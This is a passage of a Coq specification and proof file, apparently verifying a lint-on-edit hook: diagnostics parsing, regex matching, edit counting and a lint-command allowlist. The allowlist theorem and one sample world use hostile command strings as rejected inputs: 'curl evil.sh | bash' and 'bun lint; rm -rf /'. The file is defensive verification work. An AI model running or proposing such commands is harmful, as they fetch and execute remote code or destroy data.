Definition Diagnoses (ln : string) (d : LintError) : Prop :=
  (exists m, ReadBy eslintRe ln m /\ d = eslintError m)
  \/ (~ Common ln /\ exists m, ReadBy biomeRe ln m /\ d = biomeError m)
  \/ (~ Common ln /\ ~ Grouped ln /\ startsWith ln " " = false
      /\ exists m, ReadBy genericRe ln m /\ d = genericError ln m).

(** One diagnostic for each well-formed line, none for the others, in the
    order of the lines. *)
Inductive ParsesTo : list string -> list LintError -> Prop :=
| PNil : ParsesTo [] []
| PHit ln d lns ds : Diagnoses ln d -> ParsesTo lns ds -> ParsesTo (ln :: lns) (d :: ds)
| PSkip ln lns ds : ~ WellFormed ln -> ParsesTo lns ds -> ParsesTo (ln :: lns) ds.

(** [ln] reads as a non-empty path [f], a colon, the digits [l], a colon,
    the digits [c], and anything. *)
Definition LocationOf (ln f l c : string) : Prop :=
  exists rest,
    ln = f ++ ":" ++ l ++ ":" ++ c ++ rest /\ f <> "" /\ Digits l /\ Digits c.

(** [d] carries such a reading of [ln]: its path and the values of its two
    digit runs. *)
Definition Located (ln : string) (d : LintError) : Prop :=
  exists f l c,
    LocationOf ln f l c
    /\ file d = f
    /\ line d = Some (Z.of_N (digitsValue 0 l))
    /\ column d = Some (Z.of_N (digitsValue 0 c)).

(** The guards of [run] other than the one on keywords. *)
Definition otherGuards (w : World) (h : HookInput) : bool :=
  (arrIncludes EDIT_TOOLS (tool_name h)
   && isValidRepoPattern (cwd h)
   && negb (match enabled (configFor w h) with Some false => true | _ => false end))%bool.

(** The event is counted: the invocation saved a session state. *)
Definition counted (w : World) : bool :=
  match stateWrite (run w) with
  | Some _ => true
  | None => false
  end.

(** Some keyword occurs in [name], letter case apart. *)
Definition matchesSomeKeyword (kws : list string) (name : string) : Prop :=
  exists kw, In kw kws /\ includes (toLowerCase name) (toLowerCase kw) = true.

(** [editedFiles] after the edit of [filePath] is recorded. *)
Definition recordEdit (files : list string) (filePath : string) : list string :=
  if arrIncludes files filePath then files else (files ++ [filePath])%list.


(** [t] is a task written to [listId] for the diagnostic [e]. *)
Definition IsTaskFor (listId : string) (e : LintError) (t : string * Task) : Prop :=
  fst t = listId /\ exists stamp rnd iso, snd t = makeTask stamp rnd iso e.

(** The state files as an invocation leaves them, and the world the next
    invocation for the same event finds. *)
Definition filesAfter (w : World) : string -> option SessionState :=
  match stateWrite (run w) with
  | Some (name, st) => fun n => if String.eqb n name then Some st else stateFiles w n
  | None => stateFiles w
  end.

Definition nextWorld (w : World) : World :=
  {| stdinJson := stdinJson w; projectEntry := projectEntry w;
     globalEntry := globalEntry w; sessionNameOf := sessionNameOf w;
     stateFiles := filesAfter w; detectLintCommand := detectLintCommand w;
     spawn := spawn w; getProjectTaskList := getProjectTaskList w;
     clock := clock w; randomSuffix := randomSuffix w; isoTime := isoTime w |}.

(** The characters [sanitizeId] lets through. *)
Definition isSafeIdChar (c : ascii) : bool := (isWord c || Ascii.eqb c "-")%bool.

(** The world after [n] invocations for the same event. *)
Fixpoint afterRuns (n : nat) (w : World) : World :=
  match n with
  | O => w
  | S n' => nextWorld (afterRuns n' w)
  end.

(** A directory name of the form the hook works in: letters, a dash, then
    letters, digits and dashes. *)
Definition RepoName (d : string) : Prop :=
  exists prefix name,
    d = prefix ++ "-" ++ name
    /\ prefix <> "" /\ allChars isAsciiLetter prefix = true
    /\ name <> ""
    /\ allChars (fun c => (isAsciiLetter c || isDigit c || Ascii.eqb c "-")%bool) name = true.

(** [s] neither starts nor ends with white space. *)
Definition Trimmed (s : string) : Prop :=
  (forall c r, s = String c r -> isSpace c = false)
  /\ (forall r c, s = r ++ String c "" -> isSpace c = false).

(** The same world with the project files and the task directory read by
    the functions of the source. *)
Definition withDisk (w : World) (files : string -> ProjectFiles) (tasks : TasksDir) : World :=
  {| stdinJson := stdinJson w; projectEntry := projectEntry w;
     globalEntry := globalEntry w; sessionNameOf := sessionNameOf w;
     stateFiles := stateFiles w;
     detectLintCommand := fun dir => detectLintCommandFrom (files dir);
     spawn := spawn w;
     getProjectTaskList := fun dir => getProjectTaskListFrom tasks dir;
     clock := clock w; randomSuffix := randomSuffix w; isoTime := isoTime w |}.

(** *** Sample data for the concrete cases *)

Definition editOf (path : string) : HookInput :=
  {| session_id := "s1"; transcript_path := "/t.jsonl";
     cwd := "/home/u/hook-checklint"; tool_name := "Edit";
     tool_input := fun key => if String.eqb key "file_path" then Some path else None |}.

Definition editWithoutPath : HookInput :=
  {| session_id := "s1"; transcript_path := "/t.jsonl";
     cwd := "/home/u/hook-checklint"; tool_name := "Edit";
     tool_input := fun _ => None |}.

Definition sampleConfig (listId : option string) : CheckLintConfig :=
  {| taskListId := listId; lintCommand := Some "bun lint";
     editThreshold := Some 3%Z; keywords := Some ["dev"];
     enabled := None; createTasks := None |}.

Definition sevenErrors : string :=
  "src/a.ts:1:1: error e1" ++ nl ++ "src/a.ts:2:1: error e2" ++ nl
  ++ "src/a.ts:3:1: error e3" ++ nl ++ "src/a.ts:4:1: error e4" ++ nl
  ++ "src/a.ts:5:1: error e5" ++ nl ++ "src/a.ts:6:1: error e6" ++ nl
  ++ "src/a.ts:7:0: warning e7 [r]".

Definition exited (status : Z) (out : string) : ProcResult :=
  {| exitStatus := Some status; procStdout := out; procStderr := "" |}.

(** The state file after two counted edits, of two files. *)
Definition twoEdits : SessionState :=
  {| editCount := 2; editedFiles := ["src/a.ts"; "src/b.ts"]; lastLintRun := 0 |}.

Definition sampleWorld (h : HookInput) (c : CheckLintConfig) (name : option string)
           (stored : SessionState) (p : ProcResult) : World :=
  {| stdinJson := Some h;
     projectEntry := fun _ => Some c;
     globalEntry := None;
     sessionNameOf := fun _ => name;
     stateFiles := fun _ => Some stored;
     detectLintCommand := fun _ => None;
     spawn := fun _ _ => p;
     getProjectTaskList := fun _ => None;
     clock := fun n => (1000 + Z.of_nat n)%Z;
     randomSuffix := fun _ => "abc123";
     isoTime := fun _ => "2026-01-01T00:00:00.000Z" |}.

(** First edit of a "dev" session: no settings entry, no state file, a
    lint script in package.json. *)
Definition firstEdit : World :=
  {| stdinJson := Some (editOf "src/a.ts");
     projectEntry := fun _ => None;
     globalEntry := None;
     sessionNameOf := fun _ => Some "dev-work";
     stateFiles := fun _ => None;
     detectLintCommand := fun _ => Some "bun lint";
     spawn := fun _ _ => exited 0 "";
     getProjectTaskList := fun _ => None;
     clock := fun n => (1000 + Z.of_nat n)%Z;
     randomSuffix := fun _ => "abc123";
     isoTime := fun _ => "2026-01-01T00:00:00.000Z" |}.

(** An edit in a session named "feature-xyz". *)
Definition featureSession : World :=
  sampleWorld (editOf "src/a.ts") (sampleConfig None) (Some "feature-xyz")
              freshState (exited 0 "").

(** Third edit of a "dev" session, lint passes. *)
Definition thirdEditLintPasses : World :=
  sampleWorld (editOf "src/a.ts") (sampleConfig None) (Some "my-dev") twoEdits (exited 0 "").

(** Third edit of a "dev" session, lint fails with seven diagnostics. *)
Definition thirdEditLintFails : World :=
  sampleWorld (editOf "src/a.ts") (sampleConfig (Some "proj-dev")) (Some "my-dev")
              twoEdits (exited 1 sevenErrors).

(** No session name, but a configured task list without the keyword. *)
Definition namelessWithTaskList : World :=
  sampleWorld (editOf "src/a.ts") (sampleConfig (Some "proj-bugfixes")) None
              freshState (exited 0 "").

(** Third edit, with a lint command that is not on the allowlist. *)
Definition thirdEditForeignCommand : World :=
  sampleWorld (editOf "src/a.ts")
              {| taskListId := None; lintCommand := Some "curl evil.sh | bash";
                 editThreshold := Some 3%Z; keywords := Some ["dev"];
                 enabled := None; createTasks := None |}
              (Some "my-dev") twoEdits (exited 1 sevenErrors).

(** A project whose package.json has a lint script and nothing else. *)
Definition lintScriptOnly : ProjectFiles :=
  {| packageJson := PkgScripts true false false false;
     biomeJson := false; biomeJsonc := false; eslintrcJson := false;
     eslintrcJs := false; eslintConfigJs := false |}.

(** An edit event without a path. *)
Definition pathlessEdit : World :=
  sampleWorld editWithoutPath (sampleConfig None) (Some "my-dev") twoEdits (exited 0 "").

(** A diagnostic for a file that was not edited but has the name of one. *)
Definition libDiagnostic : LintError :=
  {| file := "lib/a.ts"; line := Some 1%Z; column := Some 1%Z;
     message := "m"; rule := None; severity := "error" |}.


Definition tabLine : string := String "009" "b.ts:1:2: msg".

Definition plainLine : string := "b.ts:1:2: msg".

Definition commonLine : string :=
  "src/a.ts:10:5: error 'x' is never used [no-unused-vars]".




(** A diagnostic with a path relative to the project. *)
Definition relativeDiagnostic : LintError :=
  {| file := "src/a.ts"; line := Some 1%Z; column := Some 1%Z;
     message := "m"; rule := None; severity := "error" |}.

End Spec.

(* ===================================================================== *)
(** ** Facts about strings *)
(* ===================================================================== *)

Module JSFacts.
Import JS.

Lemma append_nil_r (s : string) : s ++ "" = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ b ++ c.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma length_append (a b : string) :
  String.length (a ++ b) = String.length a + String.length b.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma append_eq_nil (a b : string) : a ++ b = "" -> a = "" /\ b = "".
Proof. destruct a; simpl; intros H; [now split | discriminate]. Qed.

(** [startsWith]: the prefix relation. *)
Lemma prefix_iff (p s : string) :
  String.prefix p s = true <-> exists r, s = p ++ r.
Proof.
  revert s. induction p as [|c p IH]; intros s.
  - split; [intros _; exists s; reflexivity | intros _; now destruct s].
  - destruct s as [|d s]; simpl.
    + split; [discriminate | intros [r H]; discriminate].
    + destruct (ascii_dec c d) as [->|Hne].
      * rewrite IH. split; intros [r H]; exists r; [now rewrite H | now injection H].
      * split; [discriminate | intros [r H]; injection H as H _; congruence].
Qed.

Lemma startsWith_iff (s p : string) :
  startsWith s p = true <-> exists r, s = p ++ r.
Proof. apply prefix_iff. Qed.

Lemma drop_append (a b : string) : drop (String.length a) (a ++ b) = b.
Proof. induction a as [|x a IH]; simpl; [reflexivity | assumption]. Qed.

Lemma drop_split (n : nat) (s : string) :
  n <= String.length s -> exists u, s = u ++ drop n s /\ String.length u = n.
Proof.
  revert s. induction n as [|n IH]; intros s Hn.
  - exists "". now split.
  - destruct s as [|c s]; simpl in Hn; [lia|].
    destruct (IH s) as [u [Hu Hl]]; [lia|].
    exists (String c u). simpl. split; [now rewrite <- Hu | now rewrite Hl].
Qed.

(** [endsWith]: the suffix relation. *)
Lemma endsWith_iff (s p : string) :
  endsWith s p = true <-> exists u, s = u ++ p.
Proof.
  unfold endsWith. rewrite andb_true_iff, Nat.leb_le, String.eqb_eq. split.
  - intros [Hle Hd].
    destruct (drop_split (String.length s - String.length p) s) as [u [Hu _]]; [lia|].
    exists u. now rewrite Hd in Hu.
  - intros [u ->]. rewrite length_append. split; [lia|].
    replace (String.length u + String.length p - String.length p) with (String.length u) by lia.
    apply drop_append.
Qed.

(** [includes]: the substring relation. *)
Lemma includes_unfold (s p : string) :
  includes s p =
  (String.prefix p s ||
   match s with
   | EmptyString => false
   | String _ s' => includes s' p
   end)%bool.
Proof. destruct s; reflexivity. Qed.

Lemma includes_iff (s p : string) :
  includes s p = true <-> exists u v, s = u ++ p ++ v.
Proof.
  induction s as [|c s IH]; rewrite includes_unfold, orb_true_iff, prefix_iff.
  - split.
    + intros [[r H]|H]; [|discriminate]. exists "", r. exact H.
    + intros [u [v H]]. left. symmetry in H.
      apply append_eq_nil in H as [-> H]. exists v. now symmetry.
  - rewrite IH. split.
    + intros [[r H]|[u [v H]]]; [exists "", r; exact H|].
      exists (String c u), v. simpl. now rewrite H.
    + intros [[|d u] [v H]]; [left; exists v; exact H|].
      right. simpl in H. injection H as _ H. now exists u, v.
Qed.

Lemma truthy_iff (s : string) : truthy s = true <-> s <> "".
Proof. unfold truthy. rewrite negb_true_iff. apply String.eqb_neq. Qed.

Lemma truthy_false_iff (s : string) : truthy s = false <-> s = "".
Proof. unfold truthy. rewrite negb_false_iff. apply String.eqb_eq. Qed.

(** [split] never gives the empty list. *)
Lemma split_nonempty (sep : ascii) (s : string) : split sep s <> [].
Proof.
  induction s as [|c s IH]; simpl; [discriminate|].
  destruct (Ascii.eqb c sep); [discriminate|].
  destruct (split sep s); [contradiction | discriminate].
Qed.

Lemma last_cons_nonempty (A : Type) (x : A) (l : list A) (d : A) :
  l <> [] -> last (x :: l) d = last l d.
Proof. destruct l; [contradiction | reflexivity]. Qed.

Lemma split_last (sep : ascii) (s : string) :
  exists pre,
    s = pre ++ last (split sep s) ""
    /\ allChars (fun c => negb (Ascii.eqb c sep)) (last (split sep s) "") = true
    /\ match split sep s with
       | [_] => pre = ""
       | _ => exists q, pre = q ++ String sep ""
       end.
Proof.
  induction s as [|c s IH].
  - exists "". simpl. repeat split.
  - destruct IH as [pre [Hs [Hfree Hpre]]]. simpl.
    destruct (Ascii.eqb_spec c sep) as [->|Hne].
    + rewrite last_cons_nonempty by apply split_nonempty.
      exists (String sep pre). simpl. rewrite <- Hs.
      split; [reflexivity|]. split; [assumption|].
      destruct (split sep s) as [|h [|h' t]] eqn:E.
      * exfalso. now apply (split_nonempty sep s).
      * subst pre. exists "". reflexivity.
      * destruct Hpre as [q ->]. exists (String sep q). reflexivity.
    + destruct (split sep s) as [|h [|h' t]] eqn:E.
      * exfalso. now apply (split_nonempty sep s).
      * subst pre. simpl in *. exists "". simpl.
        split; [now rewrite <- Hs|]. split; [|reflexivity].
        rewrite Hfree. now destruct (Ascii.eqb_spec c sep).
      * destruct Hpre as [q ->]. exists (String c (q ++ String sep "")).
        split; [cbn [append]; f_equal; exact Hs|]. split; [exact Hfree|].
        exists (String c q). reflexivity.
Qed.

End JSFacts.

(* ===================================================================== *)
(** ** The matcher against what a pattern denotes *)
(* ===================================================================== *)

Module RegexFacts.
Import JS JSFacts Regex.

Lemma substring_prefix (w rest : string) :
  String.substring 0 (String.length w) (w ++ rest) = w.
Proof.
  induction w as [|c w IH]; simpl.
  - now destruct rest.
  - now rewrite IH.
Qed.

Lemma consumed_append (w rest : string) : consumed (w ++ rest) rest = w.
Proof.
  unfold consumed. rewrite length_append.
  replace (String.length w + String.length rest - String.length rest)
    with (String.length w) by lia.
  apply substring_prefix.
Qed.

Section Star.
Variable R : Type.
Variable p : ascii -> bool.
Variable k : string -> option R.

Lemma starL_sound (s : string) (x : R) :
  starL p k s = Some x ->
  exists w rest, s = w ++ rest /\ allChars p w = true /\ k rest = Some x.
Proof.
  induction s as [|c s IH]; simpl; intros H.
  - destruct (k "") eqn:E; [|discriminate].
    injection H as <-. now exists "", "".
  - destruct (k (String c s)) eqn:E.
    + injection H as <-. now exists "", (String c s).
    + destruct (p c) eqn:Hp; [|discriminate].
      destruct (IH H) as [w [rest [-> [Hw Hk]]]].
      exists (String c w), rest. simpl. now rewrite Hp, Hw.
Qed.

Lemma starG_sound (s : string) (x : R) :
  starG p k s = Some x ->
  exists w rest, s = w ++ rest /\ allChars p w = true /\ k rest = Some x.
Proof.
  induction s as [|c s IH]; simpl; intros H.
  - now exists "", "".
  - destruct (p c) eqn:Hp; [|now exists "", (String c s)].
    destruct (starG p k s) eqn:E; [|now exists "", (String c s)].
    injection H as <-.
    destruct (IH eq_refl) as [w [rest [-> [Hw Hk]]]].
    exists (String c w), rest. simpl. now rewrite Hp, Hw.
Qed.

Lemma star_sound (g : bool) (s : string) (x : R) :
  star g p k s = Some x ->
  exists w rest, s = w ++ rest /\ allChars p w = true /\ k rest = Some x.
Proof. destruct g; [apply starG_sound | apply starL_sound]. Qed.

Lemma starL_complete (w rest : string) :
  allChars p w = true -> k rest <> None -> starL p k (w ++ rest) <> None.
Proof.
  induction w as [|c w IH]; simpl; intros Hw Hk.
  - destruct rest; simpl; destruct (k _); congruence.
  - apply andb_true_iff in Hw as [Hp Hw]. rewrite Hp.
    destruct (k (String c (w ++ rest))); [discriminate | now apply IH].
Qed.

Lemma starG_complete (w rest : string) :
  allChars p w = true -> k rest <> None -> starG p k (w ++ rest) <> None.
Proof.
  induction w as [|c w IH]; simpl; intros Hw Hk.
  - destruct rest as [|d rest]; simpl; [assumption|].
    destruct (p d); [|assumption].
    destruct (starG p k rest); [discriminate | assumption].
  - apply andb_true_iff in Hw as [Hp Hw]. rewrite Hp.
    specialize (IH Hw Hk).
    destruct (starG p k (w ++ rest)); [discriminate | contradiction].
Qed.

Lemma star_complete (g : bool) (w rest : string) :
  allChars p w = true -> k rest <> None -> star g p k (w ++ rest) <> None.
Proof. destruct g; [apply starG_complete | apply starL_complete]. Qed.
End Star.

(** Soundness: a successful run went through a word the pattern denotes and
    handed the rest, with the captures made on the way, to its continuation. *)
Lemma run_sound (R : Type) (r : regex) :
  forall (s : string) (caps : captures) (k : string -> captures -> option R) (x : R),
    run r s caps k = Some x ->
    exists w rest c1, s = w ++ rest /\ matches r w rest caps c1 /\ k rest c1 = Some x.
Proof.
  induction r as [p|g p|g p|r1 IH1 r2 IH2|r1 IH1 r2 IH2|r1 IH1|n r1 IH1|];
    intros s caps k x H; simpl in H.
  - destruct s as [|c s]; [discriminate|].
    destruct (p c) eqn:Hp; [|discriminate].
    exists (String c ""), s, caps. repeat split; [now constructor | assumption].
  - apply star_sound in H as [w [rest [-> [Hw Hk]]]].
    exists w, rest, caps. repeat split; [now constructor | assumption].
  - destruct s as [|c s]; [discriminate|].
    destruct (p c) eqn:Hp; [|discriminate].
    apply star_sound in H as [w [rest [-> [Hw Hk]]]].
    exists (String c w), rest, caps. repeat split; [now constructor | assumption].
  - apply IH1 in H as [w1 [rest1 [c1 [-> [M1 H]]]]].
    apply IH2 in H as [w2 [rest [c2 [-> [M2 H]]]]].
    exists (w1 ++ w2), rest, c2. rewrite append_assoc.
    repeat split; [econstructor; eassumption | assumption].
  - destruct (run r1 s caps k) eqn:E.
    + injection H as ->. apply IH1 in E as [w [rest [c1 [-> [M Hk]]]]].
      exists w, rest, c1. repeat split; [now apply MAltL | assumption].
    + apply IH2 in H as [w [rest [c1 [-> [M Hk]]]]].
      exists w, rest, c1. repeat split; [now apply MAltR | assumption].
  - destruct (run r1 s caps k) eqn:E.
    + injection H as ->. apply IH1 in E as [w [rest [c1 [-> [M Hk]]]]].
      exists w, rest, c1. repeat split; [now apply MOptSome | assumption].
    + exists "", s, caps. repeat split; [apply MOptNone | assumption].
  - apply IH1 in H as [w [rest [c1 [-> [M Hk]]]]].
    rewrite consumed_append in Hk.
    exists w, rest, (capSet n w c1). repeat split; [now constructor | assumption].
  - destruct s; [|discriminate].
    exists "", "", caps. repeat split; [constructor | assumption].
Qed.

(** Completeness: whenever the pattern denotes a prefix after which the
    continuation cannot fail, backtracking finds some successful path. *)
Lemma run_complete (R : Type) (r : regex) (w rest : string) (c0 c1 : captures) :
  matches r w rest c0 c1 ->
  forall (caps : captures) (k : string -> captures -> option R),
    (forall c, k rest c <> None) -> run r (w ++ rest) caps k <> None.
Proof.
  induction 1 as [p c rest c0 Hp|g p w rest c0 Hw|g p c w rest c0 Hp Hw
                 |r1 r2 w1 w2 rest c0 c1 c2 _ IH1 _ IH2
                 |r1 r2 w rest c0 c1 _ IH|r1 r2 w rest c0 c1 _ IH
                 |r w rest c0 c1 _ IH|r rest c0|n r w rest c0 c1 _ IH|c0];
    intros caps k Hk; simpl.
  - rewrite Hp. apply Hk.
  - apply star_complete; [assumption | apply Hk].
  - rewrite Hp. apply star_complete; [assumption | apply Hk].
  - rewrite append_assoc. apply IH1. intros c. now apply IH2.
  - specialize (IH caps k Hk). destruct (run r1 (w ++ rest) caps k); congruence.
  - destruct (run r1 (w ++ rest) caps k); [discriminate | now apply IH].
  - specialize (IH caps k Hk). destruct (run r (w ++ rest) caps k); congruence.
  - destruct (run r rest caps k); [discriminate | apply Hk].
  - apply IH. intros c. apply Hk.
  - apply Hk.
Qed.

Lemma exec_sound (r : regex) (s : string) (m : captures) :
  exec r s = Some m -> exists w rest, s = w ++ rest /\ matches r w rest [] m.
Proof.
  intros H. apply run_sound in H as [w [rest [c1 [-> [M E]]]]].
  injection E as ->. now exists w, rest.
Qed.

(** [s.match(r)] is not null exactly on the language of [r]. *)
Lemma exec_accepts (r : regex) (s : string) :
  exec r s <> None <-> Accepts r s.
Proof.
  split.
  - destruct (exec r s) as [m|] eqn:E; [intros _ | congruence].
    apply exec_sound in E as [w [rest [-> M]]]. now exists w, rest, m.
  - intros [w [rest [m [-> M]]]]. unfold exec.
    apply (@run_complete captures _ _ _ _ _ M). discriminate.
Qed.

Lemma exec_none (r : regex) (s : string) :
  exec r s = None <-> ~ Accepts r s.
Proof.
  rewrite <- exec_accepts. destruct (exec r s); split; try congruence.
  intros H. exfalso. apply H. discriminate.
Qed.

(** A pattern leaves the groups it does not contain as they were. *)
Lemma matches_frame (r : regex) (w rest : string) (c0 c1 : captures) (n : nat) :
  matches r w rest c0 c1 -> ~ In n (groupsOf r) -> capGet n c1 = capGet n c0.
Proof.
  induction 1; simpl; intros Hn; try reflexivity.
  - rewrite in_app_iff in Hn. rewrite IHmatches2, IHmatches1; tauto.
  - rewrite in_app_iff in Hn. apply IHmatches. tauto.
  - rewrite in_app_iff in Hn. apply IHmatches. tauto.
  - now apply IHmatches.
  - destruct (Nat.eqb_spec n0 n) as [->|Hne]; [tauto|].
    apply IHmatches. tauto.
Qed.

(** Inversion of [matches], one lemma per constructor of [regex]. *)
Lemma inv_char p w rest c0 c1 :
  matches (RChar p) w rest c0 c1 ->
  exists c, w = String c "" /\ p c = true /\ c1 = c0.
Proof. intros H; inversion H; subst. eexists; eauto. Qed.

Lemma inv_star g p w rest c0 c1 :
  matches (RStar g p) w rest c0 c1 -> allChars p w = true /\ c1 = c0.
Proof. inversion 1; subst. now split. Qed.

Lemma inv_plus g p w rest c0 c1 :
  matches (RPlus g p) w rest c0 c1 -> w <> "" /\ allChars p w = true /\ c1 = c0.
Proof.
  inversion 1; subst. simpl. repeat split; [discriminate|].
  now apply andb_true_iff.
Qed.

Lemma inv_seq r1 r2 w rest c0 c2 :
  matches (RSeq r1 r2) w rest c0 c2 ->
  exists w1 w2 c1,
    w = w1 ++ w2 /\ matches r1 w1 (w2 ++ rest) c0 c1 /\ matches r2 w2 rest c1 c2.
Proof. intros H; inversion H; subst. do 3 eexists; eauto. Qed.

Lemma inv_alt r1 r2 w rest c0 c1 :
  matches (RAlt r1 r2) w rest c0 c1 ->
  matches r1 w rest c0 c1 \/ matches r2 w rest c0 c1.
Proof. inversion 1; subst; [now left | now right]. Qed.


Lemma inv_group n r w rest c0 c2 :
  matches (RGroup n r) w rest c0 c2 ->
  exists c1, c2 = capSet n w c1 /\ matches r w rest c0 c1.
Proof. intros H; inversion H; subst. eexists; eauto. Qed.

Lemma inv_end w rest c0 c1 :
  matches REnd w rest c0 c1 -> w = "" /\ rest = "" /\ c1 = c0.
Proof. inversion 1; subst. now repeat split. Qed.

(** Ways to build [matches]. *)
Lemma plus_intro g p w rest c0 :
  w <> "" -> allChars p w = true -> matches (RPlus g p) w rest c0 c0.
Proof.
  intros Hne Hw. destruct w as [|c w]; [contradiction|].
  simpl in Hw. apply andb_true_iff in Hw as [Hc Hw]. now constructor.
Qed.



Lemma accepts_whole (r : regex) (s : string) (m : captures) :
  matches r s "" [] m -> Accepts r s.
Proof. intros M. exists s, "", m. split; [now rewrite append_nil_r | exact M]. Qed.

End RegexFacts.

(* ===================================================================== *)
(** ** Command gatekeeper *)
(* ===================================================================== *)

Module Gatekeeper.
Import JS JSFacts Hook Spec.

Lemma allowed_nonempty (a : string) : In a ALLOWED_LINT_COMMANDS -> a <> "".
Proof.
  unfold ALLOWED_LINT_COMMANDS. simpl.
  intros H. repeat (destruct H as [<-|H]; [discriminate|]). contradiction.
Qed.

Lemma entry_matches_iff (cmd allowed : string) :
  (String.eqb cmd allowed || startsWith cmd (allowed ++ " "))%bool = true
  <-> cmd = allowed \/ exists rest, cmd = allowed ++ " " ++ rest.
Proof.
  rewrite orb_true_iff, String.eqb_eq, startsWith_iff.
  split; (intros [H|[r H]]; [now left | right; exists r]).
  - now rewrite <- append_assoc.
  - now rewrite append_assoc.
Qed.

(** C3. [isValidLintCommand] accepts exactly the commands that are an entry
    of the allowlist or start with an entry followed by a space; "bun lint"
    passes, "bun lint; rm -rf /" and "curl evil.sh | bash" do not. *)
Theorem isValidLintCommand_iff_allowlist :
  (forall cmd, isValidLintCommand cmd = true <-> AllowedBySpec cmd)
  /\ isValidLintCommand "bun lint" = true
  /\ isValidLintCommand "bun lint; rm -rf /" = false
  /\ isValidLintCommand "curl evil.sh | bash" = false.
Proof.
  split; [|repeat split; reflexivity].
  intros cmd. unfold isValidLintCommand, AllowedBySpec.
  destruct (truthy cmd) eqn:T; cbn [negb].
  - rewrite existsb_exists.
    split; intros [a [Hin H]]; exists a; (split; [assumption|]);
      now apply entry_matches_iff.
  - apply truthy_false_iff in T. subst cmd. split; [discriminate|].
    intros [a [Hin [H|[r H]]]].
    + symmetry in H. now apply allowed_nonempty in Hin.
    + symmetry in H. apply append_eq_nil in H as [H _].
      now apply allowed_nonempty in Hin.
Qed.

End Gatekeeper.

(* ===================================================================== *)
(** ** Task emitter: which diagnostics are relevant *)
(* ===================================================================== *)

Module Emitter.
Import JS JSFacts Hook Spec.

Lemma orStr_some_nil (s : string) : orStr (Some s) "" = s.
Proof.
  unfold orStr. destruct (truthy s) eqn:T; [reflexivity|].
  apply truthy_false_iff in T. now subst.
Qed.

(** The last segment of a path is a suffix of it and holds no slash. *)
Lemma lastSegment_suffix (f : string) :
  Suffix (lastSegment f) f
  /\ allChars (fun c => negb (Ascii.eqb c "/")) (lastSegment f) = true.
Proof.
  destruct (split_last "/" f) as [pre [Hs [Hfree _]]].
  split; [now exists pre | exact Hfree].
Qed.

Lemma suffix_trans (a b c : string) : Suffix a b -> Suffix b c -> Suffix a c.
Proof.
  intros [u ->] [v ->]. exists (v ++ u). now rewrite append_assoc.
Qed.

Lemma isRelevant_iff (edited : list string) (e : LintError) :
  isRelevant edited e = true
  <-> exists f, In f edited
                /\ (Suffix (file e) f \/ Suffix (lastSegment f) (file e)).
Proof.
  unfold isRelevant. rewrite existsb_exists.
  split; intros [f [Hin H]]; exists f; (split; [assumption|]).
  - rewrite orStr_some_nil in H. apply orb_true_iff in H.
    destruct H as [H|H]; apply endsWith_iff in H; [now left | now right].
  - rewrite orStr_some_nil. apply orb_true_iff.
    destruct H as [H|H]; apply endsWith_iff in H; [now left | now right].
Qed.

(** C5, as the code has it. A diagnostic is relevant exactly when some
    edited path ends with its file, or its file ends with the last
    slash-separated segment of some edited path; in particular it is
    relevant whenever its file ends with a whole edited path. *)
Theorem relevant_iff_suffix_or_last_segment (edited : list string) (e : LintError) :
  (isRelevant edited e = true
   <-> exists f, In f edited
                 /\ (Suffix (file e) f \/ Suffix (lastSegment f) (file e)))
  /\ ((exists f, In f edited /\ (Suffix (file e) f \/ Suffix f (file e)))
      -> isRelevant edited e = true).
Proof.
  split; [apply isRelevant_iff|].
  intros [f [Hin H]]. apply isRelevant_iff. exists f. split; [assumption|].
  destruct H as [H|H]; [now left | right].
  eapply suffix_trans; [apply lastSegment_suffix | exact H].
Qed.

Lemma relevant_iff_suffix_or_last_segment_witness :
  isRelevant ["/home/u/p/src/a.ts"] relativeDiagnostic = true.
Proof.
  destruct (relevant_iff_suffix_or_last_segment ["/home/u/p/src/a.ts"] relativeDiagnostic)
    as (_ & H).
  apply H. exists "/home/u/p/src/a.ts". split; [now left|].
  left. exists "/home/u/p/". reflexivity.
Defined.

(** C5 as stated fails: after an edit of src/a.ts a diagnostic for lib/a.ts
    is relevant, though neither path ends with the other. *)
Lemma relevant_not_two_way_suffix :
  isRelevant ["src/a.ts"] libDiagnostic = true
  /\ ~ (exists f, In f ["src/a.ts"]
                  /\ (Suffix (file libDiagnostic) f \/ Suffix f (file libDiagnostic))).
Proof.
  split; [reflexivity|].
  intros [f [[<-|[]] [H|H]]]; apply endsWith_iff in H; discriminate.
Qed.

End Emitter.

(* ===================================================================== *)
(** ** Trigger engine *)
(* ===================================================================== *)

Module Trigger.
Import JS JSFacts Hook Spec.

(** Past the other guards, [run] is the keyword guard, the path check and
    the counting. *)
Lemma run_guarded (w : World) (h : HookInput) :
  stdinJson w = Some h ->
  otherGuards w h = true ->
  run w =
  if keywordGuard (configFor w h) (sessionNameFor w h)
  then match editedPath h with
       | None => approveOnly
       | Some filePath => countEdit w (configFor w h) h filePath
       end
  else approveOnly.
Proof.
  intros Hin Hg. unfold otherGuards in Hg.
  apply andb_true_iff in Hg as [Hg He]. apply andb_true_iff in Hg as [Ht Hr].
  unfold run. rewrite Hin, Ht, Hr. cbn [negb].
  destruct (enabled (configFor w h)) as [[|]|]; try discriminate;
    now destruct (keywordGuard _ _).
Qed.

Lemma countEdit_saves (w : World) (c : CheckLintConfig) (h : HookInput) (f : string) :
  exists st, stateWrite (countEdit w c h f) = Some (stateFileName (session_id h), st).
Proof.
  unfold countEdit. destruct (Z.leb _ _); simpl; eexists; reflexivity.
Qed.

(** Past the other guards and with a path to record, an event is counted
    exactly when the keyword guard lets it through. *)
Lemma counted_iff_keywordGuard (w : World) (h : HookInput) (f : string) :
  stdinJson w = Some h ->
  otherGuards w h = true ->
  editedPath h = Some f ->
  counted w = keywordGuard (configFor w h) (sessionNameFor w h).
Proof.
  intros Hin Hg Hf. unfold counted. rewrite (run_guarded w h Hin Hg), Hf.
  destruct (keywordGuard _ _); [|reflexivity].
  destruct (countEdit_saves w (configFor w h) h f) as [st ->]. reflexivity.
Qed.

Lemma existsb_keyword_iff (kws : list string) (name : string) :
  existsb (fun keyword => includes (toLowerCase name) (toLowerCase keyword)) kws = true
  <-> matchesSomeKeyword kws name.
